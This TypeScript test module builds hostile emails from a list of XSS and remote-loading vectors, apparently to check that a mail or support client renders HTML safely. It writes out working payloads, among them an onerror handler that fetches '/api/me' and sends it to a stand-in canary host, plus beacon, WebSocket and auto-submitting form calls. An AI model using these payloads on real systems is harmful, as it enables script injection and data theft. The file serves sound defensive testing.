/** What a hostile mail may hold: our own vectors, and a public collection where it is there. */
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** `alert` is heard as a script that ran, and http://canary.example as a request that left. */
const own = [
  `<script>alert(1)</script>`,
  `<ScRiPt src=http://canary.example/s.js></sCrIpT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="http://canary.example/pixel.gif">`,
  `<img srcset="http://canary.example/a.png 1x, http://canary.example/b.png 2x">`,
  `<picture><source srcset="http://canary.example/p.webp"><img alt=""></picture>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script href="data:text/javascript,alert(1)"></script></svg>`,
  `<svg><image href="http://canary.example/i.svg"/></svg>`,
  `<svg><use href="http://canary.example/u.svg#a"/></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><style>@import "http://canary.example/svg.css";</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)"><mi>click</mi></math>`,
  `<body onload=alert(1)>`,
  `<body background="http://canary.example/bg.png">`,
  `<table background="http://canary.example/t.png"><td background="http://canary.example/d.png">x</table>`,
  `<style>@import url(http://canary.example/i.css);</style>`,
  `<style>body{background:url(http://canary.example/b.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(http://canary.example/f.woff2)}*{font-family:x}</style>text`,
  `<style>p::after{content:url(http://canary.example/c.png)}</style><p>x</p>`,
  `<div style="background-image:url(http://canary.example/d.png)">x</div>`,
  `<div style="background:\\75rl(http://canary.example/e.png)">x</div>`,
  `<div style="list-style:url('http://canary.example/l.png')"><ul><li>x</ul></div>`,
  `<div style="border-image:url(http://canary.example/bi.png) 1;border:4px solid">x</div>`,
  `<div style="cursor:url(http://canary.example/c.cur),auto">x</div>`,
  `<link rel=stylesheet href=http://canary.example/l.css>`,
  `<link rel=preload as=image href=http://canary.example/pre.png>`,
  `<link rel=prefetch href=http://canary.example/fetch>`,
  `<link rel=preconnect href=http://canary.example>`,
  `<link rel=icon href=http://canary.example/icon.ico>`,
  `<link rel=modulepreload href=http://canary.example/m.js>`,
  `<meta http-equiv=refresh content="0;url=http://canary.example/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src=http://canary.example/m.png>`,
  `<base href="http://canary.example/"><img src="rel.png">`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe src="http://canary.example/frame"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="http://canary.example/o"></object>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="http://canary.example/e">`,
  `<video src="http://canary.example/v.mp4" autoplay></video>`,
  `<video poster="http://canary.example/poster.png"></video>`,
  `<audio src="http://canary.example/a.mp3" preload=auto></audio>`,
  `<video><source onerror=alert(1)></video>`,
  `<input type=image src="http://canary.example/input.png">`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)></select>`,
  `<textarea autofocus onfocus=alert(1)></textarea>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<form action="http://canary.example/post"><input name=a></form><script>document.forms[0].submit()</script>`,
  `<a href="javascript:alert(1)" id=a>x</a><script>a.click()</script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<textarea><!-- </textarea><img src=x onerror=alert(1)> -->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<![CDATA[><img src=x onerror=alert(1)>]]>`,
  `<title><img src=x onerror=alert(1)></title><img src=x onerror=alert(1)>`,
  `<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>`,
  `<img src=x onerror="top.location='http://canary.example/top'">`,
  `<img src=x onerror="fetch('/api/me').then(r=>r.text()).then(t=>fetch('http://canary.example/steal?'+t))">`,
  `<img src=x onerror="new Image().src='http://canary.example/dom'">`,
  `<script>new WebSocket('ws://canary.example/ws')</script>`,
  `<script>navigator.sendBeacon('http://canary.example/beacon')</script>`,
  `<script>new RTCPeerConnection; alert(1)</script>`,
  `<script type=module>import 'http://canary.example/m.js'</script>`,
  `<style onload=alert(1)></style>`,
  `<script>import('data:text/javascript,alert(1)')</script>`,
  `<div style="width:expression(alert(1))"><img src=x onerror=alert(1)></div>`,
  `<p style="animation:x 1s" onanimationstart=alert(1)><style>@keyframes x{}</style>x</p>`,
  `<img src="  http://canary.example/space.png">`,
  `<img src="//canary.example/scheme.png">`,
  `<img src="http&#58;//canary.example/entity.png">`,
  `<img src="/api/me" onload=alert(1) onerror=alert(1)>`,
]

const collection = join(import.meta.dirname, '../../../shared/corpora/xss/vectors.json')

/** vectors lists them all; foreign hosts become the canary, so that none is out of hearing. */
export function vectors(): string[] {
  if (!existsSync(collection)) {
    console.log('!! The public collection of vectors is not there: only our own are tried.')
    return own
  }
  const found = JSON.parse(readFileSync(collection, 'utf8')) as string[]
  const local = found.map((v) => v.replace(/(https?:)?\/\/[\w-]+(\.[\w-]+)+/g, 'http://canary.example'))
  return [...own, ...new Set(local)]
}

const encoded = (text: string) =>
  [
    ...Buffer.from(text)
      .toString('base64')
      .matchAll(/.{1,60}/g),
  ]
    .map((m) => `=?utf-8?b?${m[0]}?=`)
    .join('\r\n ')

/** mailOf puts a vector in the body, the subject and the sender's name of a mail. */
export function mailOf(vector: string, n: number): string {
  const body = Buffer.from(`<html><body><p>${n}</p>${vector}</body></html>`).toString('base64')
  const head = vector.slice(0, 45).replace(/[\r\n\0]/g, ' ')
  return [
    `From: ${encoded(head)} <v${n}@stranger.example>`,
    'To: support@atelier.example',
    `Subject: ${encoded(`${n} ${head}`)}`,
    `Message-ID: <vector-${n}@stranger.example>`,
    'Date: Mon, 23 Nov 2026 10:00:00 +0100',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    ...[...body.matchAll(/.{1,76}/g)].map((m) => m[0]),
    '',
  ].join('\r\n')
}
